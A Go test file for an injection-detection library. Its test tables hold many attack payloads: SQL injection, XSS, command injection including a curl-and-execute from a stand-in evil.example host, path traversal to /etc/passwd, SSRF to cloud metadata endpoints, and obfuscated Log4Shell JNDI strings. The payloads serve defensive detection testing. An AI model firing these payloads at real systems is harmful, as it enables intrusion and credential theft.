package detect

import (
	"slices"
	"strings"
	"sync"
	"testing"
)

func TestBuiltinAndNames(t *testing.T) {
	want := []string{"cmdi", "crlf", "jndi", "nosql", "proto", "sqli", "ssrf", "ssti", "traversal", "xss"}
	got := Names()
	if !slices.Equal(got, want) {
		t.Fatalf("Names() = %v, want %v", got, want)
	}
	if !slices.IsSorted(got) {
		t.Errorf("Names() = %v, not sorted", got)
	}
	for _, n := range want {
		d, ok := Builtin(n)
		if !ok {
			t.Errorf("Builtin(%q) not found", n)
			continue
		}
		if d.Name() != n || d.Category() == "" {
			t.Errorf("Builtin(%q) = name %q category %q", n, d.Name(), d.Category())
		}
	}
	if d, ok := Builtin("nope"); ok || d != nil {
		t.Errorf("Builtin(nope) = %v, %v, want nil, false", d, ok)
	}
	got[0] = "changed"
	if Names()[0] != "cmdi" {
		t.Error("Names returns a shared slice")
	}
}

// detCase is one detector input with the expected outcome.
type detCase struct {
	give   string
	source string
	key    bool
	want   bool
}

// runDetector runs tests through the detector named name.
func runDetector(t *testing.T, name string, tests []detCase) {
	t.Helper()
	d, ok := Builtin(name)
	if !ok {
		t.Fatalf("no detector %q", name)
	}
	sc := NewScratch()
	for _, tt := range tests {
		src := tt.source
		if src == "" {
			src = "query"
		}
		sc.Reset(tt.give)
		f, got := d.Detect(sc, Input{Value: tt.give, Key: tt.key, Source: src})
		if got != tt.want {
			t.Errorf("%s(%q, source=%s, key=%v) = %v (%q), want %v", name, tt.give, src, tt.key, got, f.Reason, tt.want)
			continue
		}
		if got && (f.Reason == "" || f.Evidence == "") {
			t.Errorf("%s(%q): hit without evidence or reason: %+v", name, tt.give, f)
		}
	}
}

func TestSQLi(t *testing.T) {
	runDetector(t, "sqli", []detCase{
		{give: "1' OR '1'='1", want: true},
		{give: "admin'--", want: true},
		{give: "1 UNION SELECT username, password FROM users", want: true},
		{give: "1 union/**/select null,null--", want: true},
		{give: "1%27%20OR%201%3D1--", want: true},
		{give: "%2527 or 1=1--", want: true},
		{give: "1; DROP TABLE users--", want: true},
		{give: "1 AND SLEEP(5)", want: true},
		{give: "' AND extractvalue(1,concat(0x7e,version()))--", want: true},
		{give: " ORDER BY 3--", want: true},
		{give: "1) waitfor delay '0:0:5'--", want: true},
		{give: "x' UnIoN SeLeCt 1,2,3#", source: "cookies", want: true},
		{give: " AND 1083=1083 AND (1427=1427", want: true},
		{give: "select @@version", want: true},
		{give: "pg_sleep(5)--", want: true},
		{give: "and 3=4 is false", want: false},
		{give: "It's a dog's life", want: false},
		{give: "O'Brien", want: false},
		{give: "select your size", want: false},
		{give: "Drop me a line; thanks", want: false},
		{give: "john.doe@example.com", want: false},
		{give: "2.2250738585072011e-308", want: false},
		{give: "-42", want: false},
		{give: "In case when it rains", want: false},
		{give: "Please sleep(well)", want: false},
		{give: "Order by 5pm", want: false},
		{give: "rock 'n' roll", want: false},
	})
}

func TestXSS(t *testing.T) {
	runDetector(t, "xss", []detCase{
		{give: "<script>alert(1)</script>", want: true},
		{give: "<img src=x onerror=alert(1)>", want: true},
		{give: `"><svg/onload=alert(1)>`, want: true},
		{give: "%3Cscript%3Ealert(1)%3C%2Fscript%3E", want: true},
		{give: "&lt;script&gt;alert(1)&lt;/script&gt;", want: true},
		{give: "&#60;img src=x onerror=alert(1)&#62;", want: true},
		{give: "java\tscript:alert(1)", want: true},
		{give: "JaVaScRiPt:alert(document.domain)", want: true},
		{give: `" onfocus="alert(1)" autofocus="`, want: true},
		{give: "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", want: true},
		{give: `<a href="javascript&#58;alert(1)">x</a>`, source: "headers", want: true},
		{give: "<iframe src=//evil.example>", source: "cookies", want: true},
		{give: "data:text/html;base64,PHNjcmlwdD4=", want: true},
		{give: "I <3 Go", want: false},
		{give: "a < b and c > d", want: false},
		{give: "Hello, <name>!", want: false},
		{give: "<b>bold</b>", want: false},
		{give: "the java script is on the desk: really", want: false},
		{give: "online=yes", want: false},
		{give: "https://example.com/?q=a&b=c", want: false},
	})
}

func TestCmdi(t *testing.T) {
	runDetector(t, "cmdi", []detCase{
		{give: "; cat /etc/passwd", want: true},
		{give: "| whoami", want: true},
		{give: "&& id", want: true},
		{give: "`id`", want: true},
		{give: "$(curl http://evil.example/x.sh)", want: true},
		{give: "127.0.0.1;ls${IFS}-la", want: true},
		{give: ";w'h'o'a'm'i", want: true},
		{give: "|w\\h\\o\\a\\m\\i", want: true},
		{give: "%0Aid", want: true},
		{give: "; /usr/bin/id", want: true},
		{give: "& ping -n 10 127.0.0.1 &", want: true},
		{give: "|| type C:\\boot.ini", want: true},
		{give: "id;", want: true},
		{give: "() { :;}; echo vulnerable", want: true},
		{give: "system('id')", want: true},
		{give: ";sleep 5", source: "headers", want: true},
		{give: "Drop me a line; thanks", want: false},
		{give: "Tom & Jerry", want: false},
		{give: "The cat sat on the mat", want: false},
		{give: "I like to ping my friends", want: false},
		{give: "Sleep well; see you", want: false},
		{give: "salt & pepper", want: false},
		{give: "yes | no", want: false},
		{give: "function() { return 1; }", want: false},
		{give: "$19.99", want: false},
	})
}

func TestTraversal(t *testing.T) {
	runDetector(t, "traversal", []detCase{
		{give: "../../etc/passwd", want: true},
		{give: "..\\..\\windows\\win.ini", want: true},
		{give: "%2e%2e%2f%2e%2e%2fetc%2fpasswd", want: true},
		{give: "%252e%252e%252fetc", want: true},
		{give: "..%c0%af..%c0%afetc", want: true},
		{give: "..%u2216..%u2216boot.ini", want: true},
		{give: "／..／..／etc", want: true},
		{give: "．．／．．／etc", want: true},
		{give: "....//....//etc/passwd", want: true},
		{give: "/etc/passwd", want: true},
		{give: "/proc/self/environ", want: true},
		{give: "file:///etc/shadow", want: true},
		{give: "C:\\Windows\\System32\\drivers\\etc\\hosts", want: true},
		{give: "image.php%00.jpg", want: true},
		{give: "..", source: "pathParams", want: true},
		{give: "/var/task/index.js", want: true},
		{give: "/home/user/documents", want: false},
		{give: "Wait... what?", want: false},
		{give: "v1.2.3", want: false},
		{give: "https://example.com/a/b", want: false},
		{give: "/etc folder", want: false},
		{give: "my passwd is secret", want: false},
		{give: "C:\\Users\\Public\\Documents", want: false},
		{give: "/etc/hostnames.txt", want: false},
	})
}

func TestSSRF(t *testing.T) {
	runDetector(t, "ssrf", []detCase{
		{give: "http://127.0.0.1/admin", want: true},
		{give: "http://localhost:8080", want: true},
		{give: "http://169.254.169.254/latest/meta-data/", want: true},
		{give: "http://[::1]/", want: true},
		{give: "http://[::ffff:127.0.0.1]/", want: true},
		{give: "http://[::ffff:a9fe:a9fe]/", want: true},
		{give: "http://2130706433/", want: true},
		{give: "http://0177.0.0.1/", want: true},
		{give: "http://0x7f.0x0.0x0.0x1/", want: true},
		{give: "http://0x7f000001/", want: true},
		{give: "http://127.1/", want: true},
		{give: "http://0/", want: true},
		{give: "http://10.0.0.5/internal", want: true},
		{give: "http://172.16.3.4/", want: true},
		{give: "http://192.168.0.1/", want: true},
		{give: "http://100.100.100.200/latest/meta-data/", want: true},
		{give: "http://[fd00:ec2::254]/latest/meta-data/", want: true},
		{give: "http://metadata.google.internal/computeMetadata/v1/", want: true},
		{give: "http://evil.example@127.0.0.1/", want: true},
		{give: "http://127.0.0.1.nip.io/", want: true},
		{give: "http%3A%2F%2F127.0.0.1%2F", want: true},
		{give: "file:///etc/passwd", want: true},
		{give: "gopher://evil.example:70/_x", want: true},
		{give: "dict://127.0.0.1:6379/info", want: true},
		{give: "jar:http://evil.example/x.jar!/", want: true},
		{give: "ftp://10.0.0.1/", want: true},
		{give: "//127.0.0.1/x", source: "headers", want: true},
		{give: "169.254.169.254/latest", want: true},
		{give: "http://①②⑦.⓪.⓪.①/", want: true},
		{give: "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/", want: true},
		{give: "http://127。0。0。1/", want: true},
		{give: "http://example.com#@127.0.0.1/", want: true},
		{give: "http://[0:0:0:0:0:ffff:127.0.0.1]/", want: true},
		{give: "http://[::]:80/", want: true},
		{give: "https://example.com/", want: false},
		{give: "ftp://ftp.debian.org/debian/", want: false},
		{give: "http://203.0.113.10/status", want: false},
		{give: "https://1.1.1.1/dns-query", want: false},
		{give: "10.0.0.1", want: false},
		{give: "10.0.0.1, 203.0.113.5", source: "headers", want: false},
		{give: "https://localhost.example.com/", want: false},
		{give: "http://172.32.0.1/", want: false},
		{give: "profile: admin", want: false},
	})
}

func TestJNDI(t *testing.T) {
	runDetector(t, "jndi", []detCase{
		{give: "${jndi:ldap://evil.example/a}", want: true},
		{give: "${JNDI:rmi://evil.example/a}", source: "headers", want: true},
		{give: "${${lower:j}ndi:ldap://x/a}", want: true},
		{give: "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}", want: true},
		{give: "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}", want: true},
		{give: "${j${upper:n}di:dns://x}", want: true},
		{give: "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}", want: true},
		{give: "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", want: true},
		{give: "${jndi:ldap://unclosed", want: true},
		{give: "${user.name}", want: false},
		{give: "${env:HOME}/bin", want: false},
		{give: "cost: ${price}", want: false},
		{give: "jndi:ldap is a protocol name", want: false},
	})
}

func TestNoSQL(t *testing.T) {
	runDetector(t, "nosql", []detCase{
		{give: "$ne", key: true, source: "body", want: true},
		{give: "$where", key: true, source: "body", want: true},
		{give: "$gt", key: true, want: true},
		{give: "password[$ne]", key: true, want: true},
		{give: `{"$gt": ""}`, want: true},
		{give: "{$ne: 1}", want: true},
		{give: "' && this.password.match(/.*/)//", want: true},
		{give: "';sleep(5000);'", want: true},
		{give: "0;return true", want: true},
		{give: "|| 1==1", want: true},
		{give: "db.users.find({})", want: true},
		{give: "$name", key: true, want: false},
		{give: "$19.99", want: false},
		{give: "price: $5; tax: $1", want: false},
		{give: "a || b", want: false},
		{give: "this.value is set", want: false},
		{give: "db.example.com", want: false},
	})
}

func TestSSTI(t *testing.T) {
	runDetector(t, "ssti", []detCase{
		{give: "{{7*7}}", want: true},
		{give: "{{config.items()}}", want: true},
		{give: "{{''.__class__.__mro__[1]}}", want: true},
		{give: "${7*7}", want: true},
		{give: "#{7*7}", want: true},
		{give: "*{7*7}", want: true},
		{give: "<%= 7*7 %>", want: true},
		{give: "${T(java.lang.Runtime).getRuntime()}", want: true},
		{give: "{% for x in ().__class__.__base__.__subclasses__() %}", want: true},
		{give: "{{request}}", want: true},
		{give: "<#assign ex=\"freemarker.template.utility.Execute\"?new()>", want: true},
		{give: "#set($x = 1)", want: true},
		{give: "%7B%7B7*7%7D%7D", want: true},
		{give: "{{username}}", want: false},
		{give: "Hi {{first_name}}, welcome!", want: false},
		{give: "${price}", want: false},
		{give: "Hello {name}", want: false},
		{give: "${jndi:ldap://x}", want: false},
		{give: "#hashtag", want: false},
	})
}

func TestProto(t *testing.T) {
	runDetector(t, "proto", []detCase{
		{give: "__proto__", key: true, source: "body", want: true},
		{give: "prototype", key: true, source: "body", want: true},
		{give: "a[__proto__][admin]", key: true, want: true},
		{give: "constructor.prototype.admin", want: true},
		{give: `constructor["prototype"]`, want: true},
		{give: "%5F%5Fproto%5F%5F", want: true},
		{give: "prototype", want: false},
		{give: "constructor", key: true, want: false},
		{give: "The Constructor pattern", want: false},
		{give: "prototype design", want: false},
		{give: "__init__", want: false},
	})
}

func TestCRLF(t *testing.T) {
	runDetector(t, "crlf", []detCase{
		{give: "a\r\nSet-Cookie: x=1", source: "headers", want: true},
		{give: "en\nX-Injected: 1", source: "headers", want: true},
		{give: "value\nwith break", source: "cookies", want: true},
		{give: "/redirect%0d%0aLocation:%20http://evil.example", source: "query", want: true},
		{give: "x%250d%250aSet-Cookie:a=b", source: "query", want: true},
		{give: "hello\r\nContent-Length: 0", source: "body", want: true},
		{give: "x\r\nHTTP/1.1 200 OK", source: "query", want: true},
		{give: "Dear team,\nthanks for the update.\nBest", source: "body", want: false},
		{give: "line one\nFollow-up: tomorrow", source: "body", want: false},
		{give: "C:\\new\\temp", source: "headers", want: false},
		{give: "plain header value", source: "headers", want: false},
	})
}

// TestCleanValuesSkipEveryDetector checks the prefilter: plain words never
// hit and leave the Scratch without decoded copies.
func TestCleanValuesSkipEveryDetector(t *testing.T) {
	sc := NewScratch()
	for _, give := range []string{"hello", "Alice Smith", "12345", "shoes size 42", strings.Repeat("a", 4096)} {
		for _, d := range builtins {
			sc.Reset(give)
			if _, ok := d.Detect(sc, Input{Value: give, Source: "query"}); ok {
				t.Errorf("%s(%.20q) = true, want false", d.Name(), give)
			}
		}
	}
}

// TestViewsComputedOnce checks that a view is cached until Reset.
func TestViewsComputedOnce(t *testing.T) {
	sc := NewScratch()
	sc.Reset("%3CScript%3E")
	if got, want := sc.Decoded(), "<Script>"; got != want {
		t.Fatalf("Decoded() = %q, want %q", got, want)
	}
	if got, want := sc.Lower(), "<script>"; got != want {
		t.Fatalf("Lower() = %q, want %q", got, want)
	}
	if sc.Mask()&cAngle == 0 {
		t.Errorf("Mask() = %b, missing the decoded '<'", sc.Mask())
	}
	sc.Reset("A\\B 0x2e0x2e/*x*/C")
	if got, want := sc.Path(), "a/b ../*x*/c"; got != want {
		t.Errorf("Path() = %q, want %q", got, want)
	}
	if got, want := sc.Compact(), "a\\b 0x2e0x2e c"; got != want {
		t.Errorf("Compact() = %q, want %q", got, want)
	}
	sc.Reset("plain")
	if got := sc.Lower(); got != "plain" {
		t.Errorf("Lower() after Reset = %q, want %q", got, "plain")
	}
}

// TestEvidenceIsSubstringOfView checks the Finding contract.
func TestEvidenceIsSubstringOfView(t *testing.T) {
	sc := NewScratch()
	for _, give := range []string{"1' OR '1'='1", "%3Cscript%3Ealert(1)%3C/script%3E", "..%2f..%2fetc%2fpasswd", "${${lower:j}ndi:ldap://x}", "http://[::1]/"} {
		for _, d := range builtins {
			sc.Reset(give)
			f, ok := d.Detect(sc, Input{Value: give, Source: "query"})
			if !ok {
				continue
			}
			views := []string{sc.Raw(), sc.Decoded(), sc.Lower(), sc.Compact(), sc.Path()}
			if !slices.ContainsFunc(views, func(v string) bool { return strings.Contains(v, f.Evidence) }) {
				t.Errorf("%s(%q): evidence %q is in no view", d.Name(), give, f.Evidence)
			}
		}
	}
}

func TestDetectAllocations(t *testing.T) {
	sc := NewScratch()
	// Clean values, including the shapes of common header values; values
	// that reach libinjection may allocate inside it.
	values := []string{
		"hello world", "john.doe@example.com", "2024-01-15T10:30:00Z",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
		"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
		"gzip, deflate, br", "en-US,en;q=0.9", "application/json; charset=utf-8",
		"https://example.com/path?x=1", "Root=1-5e8f1234-abcdef0123456789abcdef01",
		"%2e%2e%2fetc%2fpasswd", "${${lower:j}ndi:x}", "http://169.254.169.254/",
	}
	// Warm the buffers.
	for _, v := range values {
		detectAll(sc, v)
	}
	for _, v := range values {
		if n := testing.AllocsPerRun(50, func() { detectAll(sc, v) }); n != 0 {
			t.Errorf("all detectors on %q: %.1f allocations per run, want 0", v, n)
		}
	}
}

// detectAll runs every detector on v and counts hits.
func detectAll(sc *Scratch, v string) int {
	n := 0
	sc.Reset(v)
	for _, d := range builtins {
		if _, ok := d.Detect(sc, Input{Value: v, Source: "query"}); ok {
			n++
		}
	}
	return n
}

// adversarialFragments are trigger fragments that, repeated into 64 KiB
// values, would make a detector with quadratic work take minutes.
var adversarialFragments = []string{
	"{{", "${", "${a", "}", "..", "...x", "..\x01", "<a on", "on", "||'", "'||", ";", "; a", "|",
	"%", "%c0", "&#", "\\u", "://", "http://a", "a:", "this.", "db.a.", "$", "[$ne", "/", "/etc",
	"constructor", "\r\n", "<", "(", "`", "0x", "%25", "'", "select ", "union ",
}

// TestLargeAdversarialValues runs every detector over 64 KiB values built
// from repeated trigger fragments, with one scratch reused across all of
// them as the engine's pool does, and holds every verdict and evidence to
// what a fresh scratch gives: state left over from a large value must not
// change the next one's verdict. Evidence is part of the value. The cost
// is BenchmarkLargeAdversarialValues's; a detector that never returned
// would be caught by the test timeout.
func TestLargeAdversarialValues(t *testing.T) {
	shared := NewScratch()
	for _, f := range adversarialFragments {
		v := strings.Repeat(f, 64*1024/len(f))
		for _, d := range builtins {
			shared.Reset(v)
			got, gotOK := d.Detect(shared, Input{Value: v, Source: "body"})
			fresh := NewScratch()
			fresh.Reset(v)
			want, wantOK := d.Detect(fresh, Input{Value: v, Source: "body"})
			if gotOK != wantOK || got != want {
				t.Errorf("%s on %q×%d: reused scratch = %+v, %v; fresh scratch = %+v, %v", d.Name(), f, len(v)/len(f), got, gotOK, want, wantOK)
			}
			if gotOK && (got.Reason == "" || len(got.Evidence) > len(v)) {
				t.Errorf("%s on %q×%d: finding %q without a reason or with evidence longer than the value", d.Name(), f, len(v)/len(f), got.Reason)
			}
		}
	}
}

// BenchmarkLargeAdversarialValues measures every detector over the 64 KiB
// values of TestLargeAdversarialValues (all fragments per iteration).
func BenchmarkLargeAdversarialValues(b *testing.B) {
	values := make([]string, len(adversarialFragments))
	for i, f := range adversarialFragments {
		values[i] = strings.Repeat(f, 64*1024/len(f))
	}
	sc := NewScratch()
	b.ReportAllocs()
	for b.Loop() {
		for _, v := range values {
			for _, d := range builtins {
				sc.Reset(v)
				d.Detect(sc, Input{Value: v, Source: "body"})
			}
		}
	}
}

// TestConcurrentDetect runs the shared detectors from several goroutines,
// each with its own Scratch, as the engine does with pooled scratches.
func TestConcurrentDetect(t *testing.T) {
	values := []string{"1' OR '1'='1", "<svg onload=alert(1)>", "..%2f..%2fetc%2fpasswd", "plain", "http://[::1]/", "${${lower:j}ndi:x}"}
	want := make([]int, len(values))
	sc := NewScratch()
	for i, v := range values {
		want[i] = detectAll(sc, v)
	}
	var wg sync.WaitGroup
	errs := make(chan string, 8)
	for range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sc := NewScratch()
			for range 200 {
				for i, v := range values {
					if got := detectAll(sc, v); got != want[i] {
						errs <- v
						return
					}
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for v := range errs {
		t.Errorf("concurrent detection of %q differs from the sequential result", v)
	}
}
